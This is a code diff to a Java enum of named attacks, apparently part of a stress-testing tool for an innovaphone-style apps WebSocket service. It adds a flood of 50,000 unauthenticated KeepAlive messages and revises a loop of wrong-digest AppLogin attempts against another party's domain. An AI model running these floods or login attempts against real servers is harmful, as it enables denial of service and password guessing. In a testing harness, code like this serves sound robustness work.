@@ -52,6 +52,16 @@ public enum Attack {
             socket.readUntilClosed(TURN);
         }
     },
+    /** Messages of apps without pause and without a login. */
+    APP_MESSAGES(20) {
+        @Override
+        void turn(HostileSocket socket, Target target) throws IOException {
+            socket.webSocket(target.appsPath()).readSome(TURN);
+            for (int i = 0; i < 50_000; i++) {
+                socket.sendText("{\"mt\":\"KeepAlive\"}");
+            }
+        }
+    },
     /** Connections as fast as possible from one address. */
     CONNECT_FLOOD(4) {
         @Override
@@ -93,18 +103,16 @@ public enum Attack {
             socket.readUntilClosed(TURN);
         }
     },
-    /** Wrong passwords of the domain of somebody else, by apps that try again on the same connection. */
+    /** Wrong passwords of the domain of somebody else, by apps. */
     APP_LOGINS(40) {
         @Override
         void turn(HostileSocket socket, Target target) throws IOException {
             socket.webSocket(target.appsPath()).readSome(TURN);
-            while (true) {
-                socket.sendText("{\"mt\":\"AppChallenge\"}").readSome(TURN);
-                socket.sendText(
-                                "{\"mt\":\"AppLogin\",\"app\":\"innovaphone-devices\",\"domain\":\"%s\",\"digest\":\"%064x\"}"
-                                        .formatted(target.domain(), NUMBER.incrementAndGet()))
-                        .readSome(TURN);
-            }
+            socket.sendText("{\"mt\":\"AppChallenge\"}").readSome(TURN);
+            var login =
+                    "{\"mt\":\"AppLogin\",\"app\":\"innovaphone-devices\",\"domain\":\"%s\",\"sip\":\"\",\"guid\":\"\",\"dn\":\"\",\"digest\":\"%064x\"}";
+            socket.sendText(login.formatted(target.domain(), NUMBER.incrementAndGet()))
+                    .readSome(TURN);
         }
     },
     /** Wrong passwords of the domain of somebody else, by Digest. */
